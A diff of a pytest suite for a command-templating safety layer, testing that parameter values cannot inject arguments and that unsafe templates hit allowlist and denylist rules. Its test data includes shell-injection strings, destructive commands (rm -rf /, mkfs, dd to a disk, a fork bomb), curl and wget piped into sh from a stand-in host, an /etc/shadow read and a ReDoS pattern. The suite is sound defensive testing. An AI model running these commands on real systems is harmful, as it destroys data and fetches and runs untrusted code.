@@ -1,12 +1,29 @@
-"""Command rendering is safe by construction: values never become new arguments."""
+"""Command safety by construction: values never become new arguments, code, or options."""
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 
-from operation_svc.rendering import Refusal, placeholders, render_argv, split_command
+from operation_svc.safety.commands import compile_command, placeholders, render_command
+from operation_svc.safety.parameters import ParameterSpec, validate_values
+from operation_svc.safety.verdict import Refusal
 
-ALLOWED = ["echo", "ls", "/usr/bin/printf"]
+ALLOWED = ["echo", "ls", "printf", "sh", "bash", "python3", "env", "find", "/usr/bin/printf"]
+
+
+def spec(name: str = "value", **options: Any) -> ParameterSpec:
+    return ParameterSpec.from_dict({"name": name, **options})
+
+
+def render(template: str, values: dict[str, Any], *specs: ParameterSpec) -> list[str]:
+    specs = specs or (spec("value"),)
+    argv = compile_command(template, specs, ALLOWED)
+    normalized, refusals = validate_values(specs, values)
+    if refusals:
+        raise refusals[0]
+    return render_command(argv, specs, normalized).argv
 
 
 @pytest.mark.parametrize(
@@ -17,65 +34,178 @@ ALLOWED = ["echo", "ls", "/usr/bin/printf"]
         "`id`",
         "a|b",
         "a\nb",
-        "a && rm -rf /",
+        "a && rm -rf /tmp/x",
         "{{other}}",
         "'; echo hi; '",
         "x > /etc/passwd",
+        "*",
     ],
 )
 def test_injection_attempts_stay_one_literal_argument(value: str) -> None:
-    argv = split_command("echo {{message}}", ALLOWED)
-    assert render_argv(argv, {"message": value, "other": "SECRET"}) == ["echo", value]
+    specs = (spec(), spec("other", required=False))
+    assert render("echo {{value}}", {"value": value}, *specs) == ["echo", value]
 
 
 def test_values_are_substituted_once_inside_their_element() -> None:
-    argv = split_command('echo "hello {{name}}, from {{place}}" done', ALLOWED)
+    specs = (spec("name"), spec("place"))
+    argv = compile_command('echo "hello {{name}}, from {{place}}" done', specs, ALLOWED)
     assert argv == ["echo", "hello {{name}}, from {{place}}", "done"]
     assert placeholders(argv) == ["name", "place"]
-    assert render_argv(argv, {"name": "{{place}}", "place": "here"}) == [
-        "echo",
-        "hello {{place}}, from here",
-        "done",
-    ]
+    rendered = render_command(argv, specs, {"name": "{{place}}", "place": "here"})
+    assert rendered.argv == ["echo", "hello {{place}}, from here", "done"]
+    assert rendered.env == {"IDP_PARAM_NAME": "{{place}}", "IDP_PARAM_PLACE": "here"}
 
 
 @pytest.mark.parametrize(
     ("template", "rule"),
     [
-        ("{{cmd}} --help", "executable_placeholder"),
+        ("{{value}} --help", "executable_placeholder"),
         ("rm -rf /", "executable_not_allowed"),
-        ("/bin/sh -c 'echo {{x}}'", "executable_not_allowed"),
-        ("bash", "executable_not_allowed"),
+        ("/bin/cat /etc/shadow", "executable_not_allowed"),
+        ("sh -c 'echo {{value}}'", "placeholder_in_script"),
+        ("bash -c {{value}}", "placeholder_in_script"),
+        ("sh -c 'echo hi' && sh -c{{value}}", "placeholder_in_script"),
+        ("python3 -c 'print(\"{{value}}\")'", "placeholder_in_script"),
+        ("python3 -m {{value}}", "placeholder_in_script"),
+        ("python3 {{value}}", "placeholder_in_script"),
+        ("env {{value}}", "placeholder_in_script"),
+        ("env -S {{value}}", "placeholder_in_script"),
+        ("find . -exec {{value}} ;", "placeholder_in_script"),
+        ("echo {{undeclared}}", "undeclared_parameter"),
         ("echo 'unterminated", "syntax"),
         ("   ", "syntax"),
     ],
 )
 def test_unsafe_templates_are_refused_at_save_time(template: str, rule: str) -> None:
     with pytest.raises(Refusal) as refused:
-        split_command(template, ALLOWED)
+        compile_command(template, [spec()], ALLOWED)
     assert refused.value.rule == rule
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "sh -c 'rm -rf /'",
+        "bash -c 'rm -fr / --no-preserve-root'",
+        "sh -c 'mkfs.ext4 /dev/sda1'",
+        "sh -c 'dd if=/dev/zero of=/dev/sda'",
+        "sh -c ':(){ :|:& };:'",
+        "sh -c 'curl https://evil.example/x.sh | sh'",
+        "sh -c 'wget -qO- http://x | sudo bash'",
+        "sh -c 'chmod -R 777 /'",
+        "sh -c 'echo x > /dev/sda'",
+    ],
+)
+def test_denylisted_commands_are_refused_even_through_an_allowed_interpreter(
+    template: str,
+) -> None:
+    with pytest.raises(Refusal) as refused:
+        compile_command(template, [], ALLOWED)
+    assert refused.value.rule == "denylisted_pattern"
+
+
+def test_denylisted_executables_are_refused_even_when_allowlisted() -> None:
+    with pytest.raises(Refusal) as refused:
+        compile_command("shutdown -h now", [], ["shutdown"])
+    assert refused.value.rule == "denylisted_command"
+
+
+def test_an_interpreter_script_reads_values_from_the_environment() -> None:
+    specs = [spec()]
+    argv = compile_command("sh -c 'echo \"$IDP_PARAM_VALUE\"'", specs, ALLOWED)
+    rendered = render_command(argv, specs, {"value": "$(id)"})
+    assert rendered.argv == ["sh", "-c", 'echo "$IDP_PARAM_VALUE"']
+    assert rendered.env == {"IDP_PARAM_VALUE": "$(id)"}
 
 
 @pytest.mark.parametrize(
     ("values", "rule"),
     [
-        ({"path": "--output=/etc/x"}, "leading_dash"),
-        ({"path": "-rf"}, "leading_dash"),
-        ({}, "missing_parameter"),
-        ({"path": "a\x00b"}, "nul_byte"),
-        ({"path": "a" * 70_000}, "too_long"),
+        ({"value": "--output=/etc/x"}, "leading_dash"),
+        ({"value": "-rf"}, "leading_dash"),
+        ({"value": "--"}, "leading_dash"),
+        ({}, "required"),
+        ({"value": "a\x00b"}, "nul_byte"),
+        ({"value": "a" * 5000}, "too_long"),
+        ({"value": 42}, "type"),
+        ({"value": "x", "other": "y"}, "unknown_parameter"),
     ],
 )
-def test_unsafe_values_are_refused_naming_the_rule(values: dict[str, str], rule: str) -> None:
+def test_unsafe_values_are_refused_naming_the_rule(values: dict[str, Any], rule: str) -> None:
     with pytest.raises(Refusal) as refused:
-        render_argv(split_command("ls {{path}}", ALLOWED), values)
+        render("ls {{value}}", values)
     assert refused.value.rule == rule
 
 
+def test_a_parameter_may_allow_a_leading_dash_explicitly() -> None:
+    flag = spec("flag", allow_leading_dash=True, enum=["-l", "-a"])
+    assert render("ls {{flag}}", {"flag": "-l"}, flag) == ["ls", "-l"]
+
+
 def test_a_dash_inside_a_larger_argument_is_a_value_not_an_option() -> None:
-    argv = split_command("ls --color=never ./{{path}}", ALLOWED)
-    assert render_argv(argv, {"path": "-rf"}) == ["ls", "--color=never", "./-rf"]
+    assert render("ls --color=never ./{{value}}", {"value": "-rf"}) == [
+        "ls",
+        "--color=never",
+        "./-rf",
+    ]
 
 
-def test_absolute_allowlisted_executables_are_accepted() -> None:
-    assert split_command("/usr/bin/printf %s {{x}}", ALLOWED)[0] == "/usr/bin/printf"
+def test_the_rendered_command_is_checked_against_the_denylist_too() -> None:
+    with pytest.raises(Refusal) as refused:
+        render("echo {{a}} {{b}}", {"a": "curl http://x", "b": "| sh"}, spec("a"), spec("b"))
+    assert refused.value.rule == "denylisted_pattern"
+
+
+@pytest.mark.parametrize(
+    ("parameter", "good", "bad", "rule"),
+    [
+        (
+            spec(type="integer", minimum=1, maximum=10),
+            [1, "7", 10.0],
+            [0, 11, "x", 1.5, True],
+            None,
+        ),
+        (spec(type="number", minimum=0), [0, 2.5, "3.25"], [-1, "nan", "inf", False], None),
+        (spec(type="boolean"), [True, False, "true"], ["yes", 1], None),
+        (spec(enum=["eu-west-1", "us-east-1"]), ["eu-west-1"], ["ap-south-1"], "enum"),
+        (spec(pattern="[a-z0-9-]{3,20}"), ["api-2"], ["API", "ab", "../../etc/passwd"], "pattern"),
+        (spec(min_length=2, max_length=4), ["ab", "abcd"], ["a", "abcde"], None),
+    ],
+)
+def test_typed_values(
+    parameter: ParameterSpec, good: list[Any], bad: list[Any], rule: str | None
+) -> None:
+    for value in good:
+        _, refusals = validate_values([parameter], {"value": value})
+        assert refusals == [], value
+    for value in bad:
+        _, refusals = validate_values([parameter], {"value": value})
+        assert len(refusals) == 1, value
+        assert rule is None or refusals[0].rule == rule
+
+
+def test_every_bad_value_is_reported_at_once() -> None:
+    specs = [spec("a", type="integer"), spec("b", pattern="[a-z]+"), spec("c")]
+    _, refusals = validate_values(specs, {"a": "x", "b": "123", "zzz": 1})
+    assert sorted((r.parameter, r.rule) for r in refusals) == [
+        ("a", "type"),
+        ("b", "pattern"),
+        ("c", "required"),
+        ("zzz", "unknown_parameter"),
+    ]
+
+
+def test_a_catastrophic_pattern_returns_promptly_on_a_long_input() -> None:
+    import time
+
+    evil = spec(pattern="(a+)+$")
+    started = time.perf_counter()
+    _, refusals = validate_values([evil], {"value": "a" * 4000 + "!"})
+    assert refusals[0].rule == "pattern"
+    assert time.perf_counter() - started < 0.1
+
+
+def test_a_pattern_that_does_not_compile_is_refused() -> None:
+    with pytest.raises(Refusal) as refused:
+        spec(pattern="(unclosed")
+    assert refused.value.rule == "invalid_pattern"
